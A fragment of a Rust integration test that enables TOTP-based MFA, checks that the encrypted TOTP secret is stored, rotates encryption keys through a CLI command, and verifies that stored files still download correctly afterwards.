    let r = post(&srv, "/api/auth/mfa/enable", Some(&tok), json!({"totp_code": code}));
    assert_eq!(r.status, 200, "{}", r.text());
    let stored = srv.db.sql(&format!("SELECT totp_secret_enc FROM users WHERE id = '{uid}'"));
    assert!(!stored.is_empty());
    // A second rotation works too.
    let (code, _, err) = crate::harness::run_cli(&srv.db.env(), &["keys", "rotate"], None);
    assert_eq!(code, 0, "{err}");
    for (id, data) in &ids {
        assert!(download(&srv, &tok, id, None).body == data.as_bytes(), "download after rotation");
    }
});
